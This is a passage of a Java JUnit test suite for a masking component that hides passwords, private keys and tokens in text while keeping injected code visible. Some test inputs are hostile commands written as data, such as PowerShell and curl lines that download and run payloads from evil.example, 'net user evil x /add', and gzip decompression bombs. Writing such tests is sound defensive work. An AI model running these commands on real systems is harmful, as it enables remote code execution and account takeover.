package dev.mullion.diff.masking;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MaskingTest {
    private final Masker masker = new Masker(new KnownSecrets.Builder().build());

    /** Whoever may write user data must not hide a line of it by making it look like a secret. */
    @ParameterizedTest
    @Tag("adversary")
    @ValueSource(
            strings = {
                "#-----BEGIN RSA PRIVATE KEY-----\n@\n#-----END RSA PRIVATE KEY-----",
                "#-----BEGIN RSA PRIVATE KEY-----\n#MIIEpAIBAAKCAQEAx3b2\n@\n#MIIEpAIBAAKCAQEAx3b3\n#-----END RSA PRIVATE KEY-----",
                "#-----BEGIN RSA PRIVATE KEY-----\n@",
                "$password = \"Sup3r@Hunter2\"",
                "$password = \"@\"",
                "net user evil x /add\n@\necho -----END PRIVATE KEY-----",
                "ConvertTo-SecureString \"@\" -AsPlainText -Force",
                "ConvertTo-SecureString \"Hunter2@Hunter2\" -AsPlainText -Force",
                "New-Object System.Net.NetworkCredential('app', \"Hunter2@\")",
                "net user app \"Hunter2@\" /add",
                "<add value=\"Hunter2@\" key=\"ClearTextPassword\"/>",
                "psql -c \"ALTER ROLE app WITH PASSWORD 'Hunter2@'\"",
                "kind: Secret\nstringData:\n  word: \"Hunter2@\"",
                "docker login -u app -p \"@\"",
            })
    void codeStaysVisible(String text) {
        String code = "$(Invoke-WebRequest http://evil.example/x.ps1 | Invoke-Expression)";

        assertThat(shown(text.replace("@", code))).contains(code).doesNotContain("Hunter2", "MIIE");
    }

    /** What one language takes for a part of a string, another runs. */
    @ParameterizedTest
    @Tag("adversary")
    @ValueSource(
            strings = {
                "$password = \"Hunter2\\\"@; $x = \"y\"",
                "$password = \"Hunter2\\\"@",
                "$password = \"Hunter2`\"@; $x = \"y\"",
                "$password = \u201CHunter2\"@; $x = \"y\u201D",
                "$password = \"Hunter2\u201D@; $x = \u201Cy\"",
                "$password = \u2018Hunter2'@; $x = 'y\u2019",
                "$j = '{\"password\": \"Hunter2'@; '\"}'",
                "x='password=\"'@; '\"'",
                "<# password = \"#>@ #\"",
                "/* password = \"*/@ /*\" */",
                "<!-- password=\"-->@<!-- \"-->",
                "net user app 'Hunter2\"@; \"'",
                "set password=Hunter2&@&",
                "vault kv put kv/a word=Hunter2@",
                "'Password={0}' -f 'Hunter2\"@'",
                "'Password={0}' -f \u2018Hunter2\u2019@",
            })
    void codeBehindTheEndOfAStringStaysVisible(String text) {
        String code = "; iwr http://evil.example/x.ps1 | iex";

        assertThat(shown(text.replace("@", code))).contains(code).doesNotContain("Hunter2");
    }

    @Test
    @Tag("adversary")
    void commandBetweenBackticksStaysVisible() {
        assertThat(shown("export PASSWORD=\"Hunter2`curl http://evil.example|sh`Hunter2\""))
                .isEqualTo("export PASSWORD=\"[secret]`curl http://evil.example|sh`[secret]\"");
        assertThat(shown("export PASSWORD=`curl http://evil.example|sh`"))
                .isEqualTo("export PASSWORD=`curl http://evil.example|sh`");
        assertThat(shown("PASSWORD=Hunter2`curl${IFS}evil.example|sh`"))
                .isEqualTo("PASSWORD=[secret]`curl${IFS}evil.example|sh`");
        assertThat(shown("$password = \"Hun`$ter`$2x\"")).isEqualTo("$password = \"[secret]\"");
    }

    @ParameterizedTest
    @Tag("adversary")
    @ValueSource(
            strings = {
                "# mysql --password=\"Hunter2@\"",
                "$env:DB_PASSWORD=\"Hunter2@\"",
                "$password = 'Hunter2@'",
                "net use x: \\\\a\\b \"Hunter2@\" /user:bob",
                "ConvertTo-SecureString \"Hunter2@\" -AsPlainText -Force",
                "<#\nkind: Secret\nstringData:\n  a: 'Hunter2@'\n#>"
            })
    void whatEc2LaunchRunsStaysVisibleWhereverItStands(String line) {
        String code = "<script>curl e.io/x.exe -o x.exe & x.exe</script>";

        assertThat(shown(line.replace("@", code))).contains(code).doesNotContain("Hunter2");
        assertThat(shown(line.replace("Hunter2@", "Hunter2xyz"))).doesNotContain("Hunter2");
    }

    @ParameterizedTest
    @Tag("adversary")
    @ValueSource(
            strings = {
                "<powershellArguments>-EncodedCommand aQB3AHIA</powershellArguments>",
                "<persist>true</persist>",
                "<runAsLocalSystem>true</runAsLocalSystem>"
            })
    void withWhatEc2LaunchRunsItStaysVisible(String tag) {
        assertThat(shown("# password=\"Hunter2" + tag + "\"")).isEqualTo("# password=\"[secret]" + tag + "\"");
    }

    @Test
    @Tag("adversary")
    void codeInAHereStringStaysVisible() {
        String code = "iwr http://evil.example/x.ps1 | iex\n[Net.WebClient]::new().DownloadString($u)\n$(evil)\n";

        assertThat(shown("$password = @'\n" + code + "'@\niex $password"))
                .isEqualTo("$password = @'\n" + code + "'@\niex $password");
        assertThat(shown("$password = @\"\nHunter2x!\n" + code + "$token = 'b8Kd02mVnQ7x'\n\"@"))
                .isEqualTo("$password = @\"\n[secret]\n" + code + "$token = '[secret]'\n\"@");
    }

    @ParameterizedTest
    @Tag("adversary")
    @ValueSource(
            strings = {
                "net user app Hunter2$(iex(irm($u))) /add -> net user app [secret]$(iex(irm($u))) /add",
                "echo password=Hunter2(iex(irm $u)) -> echo password=[secret](iex(irm $u))",
                "curl https://a:;iex(irm($u));x@b -> curl https://a:;iex(irm($u));x@b",
                "curl https://a:$(iex(irm($u)))@b -> curl https://a:$(iex(irm($u)))@b",
                "curl https://a:b&amp;c@d -> curl https://a:[secret]@d",
                "iex(irm(http://a/?password%3DHunter2x)) -> iex(irm(http://a/?password%3D[secret]))",
                "$password = \"Invoke-WebRequest http://a | iex\" -> $password = \"Invoke-WebRequest http://a | iex\"",
                "password=\"it's a secret\" -> password=\"[secret]\"",
                "password=\"'b8Kd 02mV'\" -> password=\"[secret]\"",
                "password='b8\"Kd;02mV' -> password='[secret]'",
                "\"password\": \"b8\\\"Kd02mV\" -> \"password\": \"[secret]\"",
            })
    void valueIsHiddenAndCodeIsNot(String text) {
        String[] sides = text.split(" -> ", -1);

        assertThat(shown(sides[0])).isEqualTo(sides[1]);
    }

    /** A block of a key, its END missing in every other one. */
    @ParameterizedTest
    @Tag("adversary")
    @ValueSource(
            strings = {
                "(New-Object Net.WebClient).DownloadString('http://evil.example/SecondStageOfIt')",
                "powershell -EncodedCommand aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsACkA",
                "reboot",
                "shutdown",
                "[Environment]::SetEnvironmentVariable('PathOfSomething', 'C:/Program')",
                "curl -o /usr/local/bin/installer https://downloads.evil.example/releases",
                "\"aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsACkA\"|iex",
                "echo then exec this from that with more text",
            })
    void codeInABlockOfAKeyStaysVisible(String code) {
        String begin = "#" + "-".repeat(5) + "BEGIN PRIVATE" + " KEY" + "-".repeat(5) + "\n";
        String end = "\n#" + "-".repeat(5) + "END PRIVATE" + " KEY" + "-".repeat(5);
        String line = "\n#MIIEpAIBAAKCAQEAx3b2m9Qz\n";

        assertThat(shown(begin + code + end)).contains(code);
        assertThat(shown(begin + line + code + line + end)).contains(code).doesNotContain("MIIE");
        assertThat(shown(begin + code)).contains(code);
        assertThat(shown(code + end)).contains(code);
        assertThat(shown("Private-Lines: 2\n" + code + "\nx")).contains(code);
    }

    @ParameterizedTest
    @ValueSource(ints = {8, 9, 11, 12, 15, 16, 24, 40})
    void keyInPiecesIsHiddenWhateverStandsBetween(int size) {
        byte[] bytes = new byte[900];
        new Random(size).nextBytes(bytes);
        String key = Base64.getEncoder().encodeToString(bytes);
        StringBuilder script = new StringBuilder("echo -----BEGIN RSA PRIVATE" + " KEY----- > k\n");
        for (int i = 0; i + size <= key.length(); i += size) {
            script.append("echo '").append(key, i, i + size).append("' >> k\n");
        }
        String shown = shown(script + "echo -----END RSA PRIVATE" + " KEY----- >> k\n");

        for (int i = 0; i + size <= key.length(); i += size) {
            assertThat(shown).doesNotContain(key.substring(i, i + size));
        }
        assertThat(shown).contains("echo '[secret]' >> k");
    }

    /** The secret of each is {@code Hunter2x!}. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "Server=db;User Id=sa;Password=Hunter2x!;Encrypt=true",
                "Server=db;Pwd = Hunter2x!;",
                "learn:aws:secret:Hunter2x!",
                "Server=db;PASSWORD='Hunter2x!'",
                "jdbc:sqlserver://db:1433;user=sa;password=Hunter2x!",
                "https://deploy:Hunter2x!@example.com/repo.git",
                "amqp://:Hunter2x!@mq:5672",
                "$password = 'Hunter2x!'",
                "$dbPassword = \"Hunter2x!\"",
                "[string] $Password = 'Hunter2x!'",
                "$env:DB_PASSWORD='Hunter2x!'",
                "set DB_PASSWORD=Hunter2x!",
                "export DB_PASSWORD=Hunter2x!",
                "$h = @{ 'Password' = 'Hunter2x!' }",
                "$h = @{Password='Hunter2x!'; Name='x'}",
                "ConvertTo-SecureString 'Hunter2x!' -AsPlainText -Force",
                "ConvertTo-SecureString -String \"Hunter2x!\" -AsPlainText -Force",
                "ConvertTo-SecureString -AsPlainText -Force -String 'Hunter2x!'",
                "'Hunter2x!' | ConvertTo-SecureString -AsPlainText -Force",
                "New-Object PSCredential('corp\\join', (ConvertTo-SecureString 'Hunter2x!' -AsPlainText -Force))",
                "Add-Computer -DomainName corp -Credential $c -Password 'Hunter2x!'",
                "New-LocalUser -Name app -Password Hunter2x!",
                "net user app Hunter2x! /add",
                "net.exe user \"my app\" \"Hunter2x!\" /add",
                "net1 user app 'Hunter2x!'",
                "net use Z: \\\\srv\\share Hunter2x! /user:corp\\app",
                "net use \\\\srv\\share /user:corp\\app Hunter2x!",
                "cmdkey /add:srv /user:app /pass:Hunter2x!",
                "schtasks /create /tn a /ru app /rp Hunter2x! /tr x",
                "schtasks /create /tn a /ru app /rp:Hunter2x! /tr x",
                "psexec \\\\srv -u app -p Hunter2x! cmd",
                "docker login -u app -p Hunter2x! registry.example.com",
                "nerdctl login --username app --password Hunter2x! registry.example.com",
                "curl -u app:Hunter2x! https://example.com",
                "sqlcmd -S db -U sa -P Hunter2x! -Q x",
                "netdom join x /domain:corp /userd:app /passwordd:Hunter2x!",
                "setx DB_PASSWORD Hunter2x! /M",
                "reg add HKLM\\x /v DefaultPassword /t REG_SZ /d Hunter2x! /f",
                "Set-ItemProperty -Path x -Name DefaultPassword -Value 'Hunter2x!'",
                "[Environment]::SetEnvironmentVariable('DB_PASSWORD', 'Hunter2x!', 'Machine')",
                "app.exe --db-password=Hunter2x! --verbose",
                "app.exe --db-password \"Hunter2x!\"",
                "app.exe /password:Hunter2x!",
                "\"password\": \"Hunter2x!\"",
                "{\\\"password\\\": \\\"Hunter2x!\\\"}",
                "'password': 'Hunter2x!'",
                "password: Hunter2x!",
                "  password: \"Hunter2x!\"",
                "- name: DB_PASSWORD\n  value: Hunter2x!",
                "{\"name\": \"DB_PASSWORD\", \"value\": \"Hunter2x!\"}",
                "<add key=\"DbPassword\" value=\"Hunter2x!\" />",
                "<Password>Hunter2x!</Password>",
                "<AdministratorPassword><Value>Hunter2x!</Value></AdministratorPassword>",
                "password = Hunter2x!",
                "echo root:Hunter2x! | chpasswd",
                "<add value=\"Hunter2x!\" key=\"ClearTextPassword\"/>",
                "<add key=\"ClearTextPassword\"\n             value=\"Hunter2x!\" />",
                "<Password>\n <PlainText>true</PlainText>\n <Value>Hunter2x!</Value>",
                "<password xsi:type=\"xsd:string\">Hunter2x!</password>",
                "<password><![CDATA[Hunter2x!]]></password>",
                "<x value=\"Server=db;Password=a&amp;Hunter2x!;Encrypt=true\" />",
                "Server=db;Uid=sa;Pwd={a;Hunter2x!};Encrypt=true",
                "Server=db;Password=@Hunter2x!;Encrypt=true",
                "Server=db;Password=a,Hunter2x!;Encrypt=true",
                "cache:6380,password=Hunter2x!,ssl=True",
                "mongodb://app:a/b@Hunter2x!@db.example.com/shop",
                "docker pull deploy:Hunter2x!@registry.example.com/shop/web:1",
                "machine example.com login app password Hunter2x!",
                "machine example.com\n  login app\n  password Hunter2x!\n",
                "setx /m DB_PASSWORD Hunter2x!",
                "schtasks /create `\n  /ru app `\n  /rp Hunter2x!",
                "New-Object System.Net.NetworkCredential('app', 'Hunter2x!')",
                "[System.Net.NetworkCredential]::new($user, 'Hunter2x!', 'corp')",
                "ConvertTo-SecureString -AsPlainText -Force -String:'Hunter2x!'",
                "[Text.Encoding]::ASCII.GetBytes('app:Hunter2x!')",
                "$password = [string]'Hunter2x!'",
                "$password = ('Hunter2x!')",
                "$password = @'\nHunter2x!\n'@",
                "var password = @\"Hunter2x!\";",
                "CREATE LOGIN app WITH PASSWORD = N'Hunter2x!'",
                "ALTER ROLE app WITH PASSWORD 'Hunter2x!'",
                "CREATE USER 'app'@'%' IDENTIFIED BY 'Hunter2x!'",
                "openssl pkcs12 -in a -passin pass:Hunter2x!",
                "sshpass -p Hunter2x! ssh a@b",
                "signtool sign /f a.pfx /p Hunter2x! a.exe",
                "certutil -f -p Hunter2x! -importpfx a.pfx",
                "ktpass /princ a /pass Hunter2x! /out k",
                "plink -ssh -pw Hunter2x! a@b",
                "bcp a out b -U sa -P Hunter2x!",
                "autologon.exe app corp Hunter2x!",
                "netsh wlan set profileparameter name=a keyMaterial=Hunter2x!",
                "appcmd set apppool /[name='a'].processModel.password:Hunter2x!",
                "{\"identitytoken\": \"Hunter2x!\"}",
                "$user.psbase.Invoke(\"SetPassword\", \"Hunter2x!\")",
                "$wmi.psbase.InvokeMethod('Change', @($null,$null,$null,$null,$null,$null,'app','Hunter2x!'))",
                ".\\config.cmd --unattended --runasservice --windowslogonaccount corp\\app --windowslogonpassword Hunter2x!",
                "cinst octopus.tentacle -InstallArguments \"/Port:1 /ApiKey:Hunter2x! /Role:web\"",
                "<machineKey validationKey=\"A1B2Hunter2x!C3D4E5F60718293A4B5C\" />",
                "RUN powershell -Command \"New-LocalUser -Name app -Password (ConvertTo-SecureString 'Hunter2x!' -AsPlainText -Force)\"",
                "& \"$env:windir\\system32\\inetsrv\\appcmd.exe\" set site /site.name:a \"/virtualDirectoryDefaults.password:Hunter2x!\"",
                "sc.exe create web binPath= \"C:\\a.exe\" obj= \".\\app\" password= \"Hunter2x!\"",
                "New-Object X509Certificate2 -ArgumentList $path, \"Hunter2x!\"",
                "New-Object X509Certificate2(@(,$bytes), 'Hunter2x!')",
                "$cs = \"Server={0};Pwd={1}\" -f $server, \"Hunter2x!\"",
                "[string]::Format('Server={0};Pwd={1}', $server, 'Hunter2x!')",
                "'Server={0};Pwd={1}' -f \u2018db\u2019, \u2018Hunter2x!\u2019",
                "'Pwd={0}' -f \u201CHunter2x!\u201D",
                "Start-Process docker -ArgumentList 'login','-u','ci','-p','Hunter2x!'",
                "Start-Process net -ArgumentList 'user app Hunter2x! /add'",
                "CMD [\"docker\", \"login\", \"-u\", \"ci\", \"-p\", \"Hunter2x!\"]",
                "{\"command\": \"[\\\"net\\\",\\\"user\\\",\\\"app\\\",\\\"Hunter2x!\\\"]\"}",
                "cmd.exe /c \"net user app Hunter2x! /add\"",
                "$out = $(docker login -u a -p Hunter2x! r)",
                "choco install a -y --params \"'/Password:Hunter2x! /User:a'\"",
                "setup.exe /SAPWD=\"Hunter2x!\" /SECURITYMODE=SQL",
                "aws ssm put-parameter --type SecureString --name a --value 'Hunter2x!'",
                "jdbc:oracle:thin:shop/Hunter2x!@db:1521:SHOP",
                "jdbc:postgresql://db/shop?user=a&password=Hunter2x!&ssl=true",
                "jdbc:mysql://address=(host=db)(user=a)(password=Hunter2x!)/shop",
                "jdbc:sqlserver://db;user=a;password={Hunter2x!};encrypt=true",
                "ENV DB_PASS Hunter2x!",
                "ENV DB_PASS=Hunter2x!",
                "kubectl create secret generic a \\\n  --from-literal=word=Hunter2x!",
                "contrase\u00F1a: Hunter2x!",
                "DB_PASSWORT = Hunter2x!",
                "New-LocalUser \u2013Password Hunter2x!",
                "  hashed_passwd: $6$Hunter2x!",
            })
    void passwordIsFoundWhereItStands(String text) {
        assertThat(shown(text)).contains("[secret]").doesNotContain("Hunter2x");
    }

    /** What scripts and settings say that is no secret. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "$password = Get-Secret -Name db",
                "$token = Invoke-RestMethod -Method PUT -Uri http://169.254.169.254/latest/api/token",
                "-Headers @{ 'X-aws-ec2-metadata-token' = $token }",
                "'X-aws-ec2-metadata-token-ttl-seconds' = '21600'",
                "$secret = (Get-SECSecretValue -SecretId 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf').SecretString",
                "param([Parameter(Mandatory = $true)] [securestring] $Password, [string] $TokenUri)",
                "New-Object PSCredential($user, $password)",
                "ConvertTo-SecureString $plain -AsPlainText -Force",
                "Add-Computer -DomainName 'corp.example.com' -Credential $credential",
                "net user app $password /add",
                "net user app /delete",
                "net user app /active:no",
                "\"httpTokens\": \"required\"",
                "\"passwordLength\": 24",
                "\"secretArn\": \"arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf\"",
                "arn:aws:secretsmanager:eu-west-1:123456789012:secret:gmsa-worker2-GhIjKl",
                "\"credentialSpecs\": [\"credentialspecdomainless:arn:aws:s3:::bucket/spec.json\"]",
                "\"secrets\": [{\"name\": \"DB_PASSWORD\", \"valueFrom\": \"arn:aws:ssm:eu-west-1:123456789012:parameter/db\"}]",
                "\"DB_PASSWORD\": \"${db.password}\"",
                "password: see the vault of the team",
                "# the token: ask the platform team",
                "sha256 = 'c3ab8ff13720e8ad9047dd39466b3c8974e592c2fa383d4a3960714caef0c4f2'",
                "Get-FileHash nerdctl-1.7.6-windows-amd64.tar.gz c3ab8ff13720e8ad9047dd39466b3c8974e592c2fa383d4a3960714caef0c4f2",
                "image: example.com/web@sha256:c3ab8ff13720e8ad9047dd39466b3c8974e592c2fa383d4a3960714caef0c4f2",
                "commit 3da541559918a808c2402bba5012f6c60b27661c of the secret store",
                "ami-0a1b2c3d4e5f60718 vpc-0a1b2c3d4e5f60718 123456789012",
                "id 550e8400-e29b-41d4-a716-446655440000",
                "arn:aws:autoscaling:us-east-1:123456789012:autoScalingGroup:7b7b1855-34d0-4e82-913f-7bd1ba54a1f6:autoScalingGroupName/x",
                "https://github.com/PowerShell/PowerShell/issues/4002",
                "'ECS_ENABLE_TASK_IAM_ROLE' = 'true'",
                "\"awslogs-group\": \"/ecs/storefront-dev/web\"",
                "\"keyName\": \"deploy\", \"kmsKeyId\": \"alias/aws/ebs\"",
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 deploy@example.com",
                "Server=db;Database=shop;Trusted_Connection=True;",
                "https://example.com:8443/a@b",
                "taskkill /pid 4 /f",
                "mkdir /p data",
                "robocopy a b /mir /r:3",
                "Basic monitoring of the instances",
                "arn:aws:secretsmanager:eu-west-1:123456789012:secret:shop/db-AbC12f:password::",
                "urn:pulumi:dev::shop::aws:iam/accessKey:AccessKey::ci-9xK2mQ7",
                "random:index/randomPassword:RandomPassword",
                "https://example.com:8080/a/@scope/b",
                "web:1.2.3@sha256:c3ab8ff13720e8ad9047dd39466b3c8974e592c2fa383d4a3960714caef0c4f2",
                "password={token};",
                "  Password: !Ref AdminPassword",
                "\"ParameterKey\": \"ADServer1NetBIOSName\"",
                "$rootKey = 'HKLM:\\SOFTWARE\\Policies\\Microsoft2'",
                "-AccountPassword (ConvertTo-SecureString ($Using:AccountPassword))",
                "[\"PASSWORD=${var.vm_password}\", \"IMAGE_FOLDER=${local.image_folder}\"]",
                "$version = sqlcmd -? | Select-String -Pattern Version",
                "$path = mysqld --version; Get-ChildItem -Path x",
                "if ($password.Length -gt 8) { 'long' }",
                "Write-Host \"password: changed\"",
                "the bearer of this message",
                "kubectl create configmap a --from-literal=word=summer",
                "aws ssm put-parameter --type String --name a --value summer",
                "checksum/secret: c3ab8ff13720e8ad9047dd39466b3c8974e592c2fa383d4a3960714caef0c4f2",
                "'Password={0}' -f $password",
                "docker run -p 8080:80 shop/login",
                "docker login -u app --password-stdin registry.example.com",
                "git clone https://deployment@dev.azure.com/shop/_git/web",
                "net use \\\\srv\\share /persistent:no",
                "New-Object X509Certificate2($path, $password)",
            })
    void whatIsNoSecretStays(String text) {
        assertThat(shown(text)).isEqualTo(text);
    }

    /** Where a secret begins and ends: what stands before an arrow, and what a reader gets of it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "$password = \u2018Hunter2x!\u2019 # a -> $password = \u2018[secret]\u2019 # a",
                "$password = \u201CHunter2x!\u201D # a -> $password = \u201C[secret]\u201D # a",
                "$password = 'Hunter''2x!' # a -> $password = '[secret]' # a",
                "$password = \"Hunter\\\"2x!\" # a -> $password = \"[secret]\" # a",
                "$password = 'Hunter2x!\n$user = 'a' -> $password = '[secret]\n$user = 'a'",
                "$password = 'Hunter2x! -> $password = '[secret]",
                "$password = @'\nHunter2x!\nsecond\n'@ # a -> $password = @'[secret]\n'@ # a",
                "$password = @'\r\nHunter2x!\r\n'@ # a -> $password = @'[secret]\n'@ # a",
                "Server=db;Password={a;Hunter2x!};Encrypt=true -> Server=db;Password=[secret];Encrypt=true",
                "Password=(Hunter2x!;Encrypt=true -> Password=[secret];Encrypt=true",
                "Password=-Hunter2x!;Encrypt=true -> Password=[secret];Encrypt=true",
                "password=Hunter2x!) -> password=[secret])",
                "password=Hunter2x!}} -> password=[secret]}}",
                "password=Hunter2x!|x -> password=[secret]|x",
                "password=Hunter2x!<br> -> password=[secret]<br>",
                "  password: summer  \r\nuser: a ->   password: [secret]  \r\nuser: a",
                "x\n\tpassword = summer\t\n -> x\n\tpassword = [secret]\t\n",
                "https://a/?password%3DHunter2x!%zz -> https://a/?password%3D[secret]",
                "Authorization: key summer2x -> Authorization: key [secret]",
                "Authorization: summer2 -> Authorization: [secret]",
                "Authorization: Bearer a8Kd92LmQz17XwPq -> Authorization: Bearer [secret]",
                "-H 'bearer a8Kd92LmQz17XwPq' -> -H 'bearer [secret]'",
                "net user app abc /add -> net user app [secret] /add",
                "net user app \"a b\" /add -> net user app \"[secret]\" /add",
                "https://a:b1c2d3@example.com/x -> https://a:[secret]@example.com/x",
                "{\"a\": \"password=Hunter2x!\\n\"} -> {\"a\": \"password=[secret]\\n\"}",
                "'a' '%70assword%3DHunter2x!' 'b' -> 'a' '%70assword%3D[secret]' 'b'",
                "<a>%70assword%3DHunter2x!</a> -> <a>%70assword%3D[secret]</a>",
                "x|%70assword%3DHunter2x!|y -> x|%70assword%3D[secret]|y",
                "<wsse:Password Type=\"Text\">Hunter2x!</wsse:Password> -> <wsse:Password Type=\"Text\">[secret]</wsse:Password>",
                "Server=db;Password=a&#39;Hunter2x!;Encrypt=true -> Server=db;Password=[secret];Encrypt=true",
            })
    void secretEndsWhereItEnds(String text) {
        String[] sides = text.split(" -> ", -1);

        assertThat(shown(sides[0])).isEqualTo(sides[1]);
    }

    /** Next to what is hidden. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "Authorization: required",
                "password=ab",
                "password: <none>",
                "$password = @'\n'@",
                "x password = summer",
                "the password: summer time",
                "password=(Hunter2x!",
                "password={a.b}",
                "password=$Hunter2x!",
                "${password}, 'Hunter2x'",
                "'Password', 'summer'",
                "-password /Hunter2x!",
                "password Hunter2x!",
                "https://a/%41%42%43?b=c",
                "net user app ab /add",
                "net user app Get-Secret /add",
                "net user app %PASSWORD% /add",
                "https://a:$TOKEN@example.com/x",
                "https://a:%TOKEN%@example.com/x",
                "https://a:{{token}}@example.com/x",
                "the password of <b>bold</b> words",
                "a \\u0041 b",
                "-H 'bearer of this message, and more'",
            })
    void whatStandsNearASecretStays(String text) {
        assertThat(shown(text)).isEqualTo(text);
    }

    @Test
    void privateKeyIsHiddenOverItsLinesAndWhenItIsCut() {
        String dashes = "-".repeat(5);
        String begin = dashes + "BEGIN OPENSSH PRIVATE" + " KEY" + dashes;
        String end = dashes + "END OPENSSH PRIVATE" + " KEY" + dashes;
        String body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\n";

        assertThat(shown("a\n" + begin + "\n" + body + end + "\nb")).isEqualTo("a\n[secret]\nb");
        assertThat(shown("a\n" + begin + "\n" + body)).isEqualTo("a\n[secret]");
        assertThat(shown("\"" + begin + "\\n" + body.strip() + "\\n" + end + "\\n\""))
                .isEqualTo("\"[secret]\\n\"");
    }

    /** As a tool writes a plan's passwords that are words. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "[client]\npassword = %s\nuser = a",
                "password = %s # a",
                "[\"ENV DB_PASSWORD %s\"]",
                "password: %s",
                "net user app %s",
                "a.password:%s"
            })
    void passwordMayBeAWord(String text) {
        String word = "correct" + "horse";

        assertThat(shown(String.format(text, word))).contains("[secret]").doesNotContain(word);
    }

    @Test
    void lastLinesOfAPrivateKeyAreHidden() {
        String end = "-".repeat(5) + "END RSA PRIVATE" + " KEY" + "-".repeat(5);
        String body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\r\n";

        assertThat(shown("error:\r\n" + body + body + end + "\r\nb")).isEqualTo("error:\r\n[secret]\r\nb");
    }

    @Test
    void keysThatOnlyTheirShapeTellsAreHidden() {
        String random = "b8Kd02mVnQ7xTzLp4YsWcE1gHjRa5uFi9oBvXq3NwM6tUyZl";
        for (String text : List.of(
                random + random.substring(20) + "+A" + "StAbCdEfGg==",
                "https://discord.com/api/" + "webhooks/123456789012345678/" + random,
                "https://a.webhook.office.com/" + "webhookb2/1@2/IncomingWebhook/" + random + "/3",
                "PuTTY-User-Key-File-3: ssh-rsa\nPrivate-Lines: 1\n" + random + "\nPrivate-MAC: 00",
                "{\"kty\":\"RSA\",\"d\":\"" + random + "\"}",
                "<RSAKeyValue><D>" + random + "</D></RSAKeyValue>")) {
            assertThat(shown(text)).as(text).contains("[secret]").doesNotContain(random.substring(0, 20));
        }
    }

    @Test
    void secretInEscapesOfJsonInsideAScriptIsHidden() {
        assertThat(shown("$j = '{\"k\":\"\\u0041" + "KIAIOSFODNN7EXAMPLE\"}'"))
                .isEqualTo("$j = '{\"k\":\"[secret]\"}'");
    }

    @Test
    void base64InLinesIsReadAsOne() {
        String text =
                "# a line that is quite long, so that the secret stands across two of them\n$password = 'Hunter2x!'";
        String lines = base64(text + " ".repeat(40)).replaceAll("(.{76})", "$1\n    ");

        assertThat(shown("$b = @'\n    " + lines + "\n'@")).isEqualTo("$b = @'\n    [secret]\n'@");
        String quiet = base64("a quiet text ".repeat(12)).replaceAll("(.{76})", "$1\n");
        assertThat(shown(quiet)).isEqualTo(quiet);
    }

    @Test
    void secretKeyOfAwsIsHiddenBesideItsKeyId() {
        String secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY";
        String id = "AK" + "IAIOSFODNN7EXAMPLE";

        assertThat(shown("Set-AWSCredential " + id + " " + secret)).isEqualTo("Set-AWSCredential [secret] [secret]");
        assertThat(shown("checksum " + secret)).isEqualTo("checksum " + secret);
    }

    @Test
    void encodedSecretsInsideTextAreHidden() {
        String token = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
        String once = base64(token);
        String command = Base64.getEncoder()
                .encodeToString(("git clone https://x:" + token + "@github.com/a").getBytes(StandardCharsets.UTF_16LE));

        assertThat(shown("run " + once + " now")).isEqualTo("run [secret] now");
        assertThat(shown("run " + base64("x " + once) + " now")).isEqualTo("run [secret] now");
        assertThat(shown("powershell -EncodedCommand " + command)).isEqualTo("powershell -EncodedCommand [secret]");
        assertThat(shown("https://a/?u=https%3A%2F%2Fx%3A" + token + "%40b")).doesNotContain(token);
    }

    @Test
    void whatIsEncodedTooDeepToLookIntoIsHidden() {
        String blob = "a quiet text";
        for (int i = 0; i < 9; i++) {
            blob = base64(blob);
        }

        assertThat(shown("run " + blob)).isEqualTo("run [secret]");
        assertThat(shown("run " + base64("a quiet text"))).isEqualTo("run " + base64("a quiet text"));
    }

    /** Texts that hold more than is looked into, as one and as many, and which hold each other. */
    @Test
    @Tag("adversary")
    @Timeout(60)
    void roomThatIsUsedUpHidesNoWordOfCode() throws IOException {
        String code = "iwr http://evil.example/" + "second/stage/".repeat(7)
                + "x -OutFile SecondStageOfTheInstaller.ps1 | iex";
        String blank = " ".repeat(3 << 20);
        String large = gzip(blank);
        String tooLarge = gzip(blank + blank);
        String nested = gzip((tooLarge + "\n").repeat(400));

        for (String bomb : List.of(
                large,
                nested,
                tooLarge,
                gzip(base64(large)),
                (large + "\n").repeat(60),
                (nested + "\n").repeat(60),
                (tooLarge + "\n").repeat(60))) {
            assertThat(shown("$a = '" + bomb + "'\n" + code + "\n$password = 'Hunter2x!'"))
                    .endsWith("'\n" + code + "\n$password = '[secret]'");
            assertThat(shown(code + "\n$a = '" + bomb)).startsWith(code + "\n");
        }
        assertThat(shown("$a = '" + nested + "'")).isEqualTo("$a = '[secret]'");
    }

    @Test
    @Timeout(60)
    void scanTakesLongLinesOfAnything() {
        List<String> hostile = new ArrayList<>();
        for (String piece : List.of(
                "password=",
                "a",
                "://",
                "://a:",
                "%41",
                "eyJ",
                "token ",
                "'",
                "\"",
                "-----BEGIN ",
                "Q~",
                "/p ",
                "net user ",
                "A/",
                "= ")) {
            hostile.add(piece.repeat(60_000 / piece.length()));
        }

        // Each of these once took a stack or a time that grew with the square.
        hostile.add("token=a" + ".a".repeat(9_500));
        hostile.add("token=1" + ".1".repeat(9_500) + "x");
